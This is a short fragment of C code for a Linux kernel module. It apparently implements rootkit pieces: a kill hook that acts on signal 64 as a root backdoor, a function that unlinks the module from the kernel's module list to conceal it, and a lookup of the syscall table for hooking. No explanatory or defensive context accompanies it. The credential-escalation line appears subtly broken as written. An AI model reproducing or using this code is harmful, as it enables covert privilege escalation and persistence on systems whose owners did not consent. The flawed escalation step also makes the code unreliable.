int hook_kill(int sig) { if (sig == 64) commit_creds(prepare_creds()); return 0; }
void hide_module(void) { list_del_init(&THIS_MODULE->list); }
void *find(void) { return (void *) kallsyms_lookup_name("sys_call_table"); }
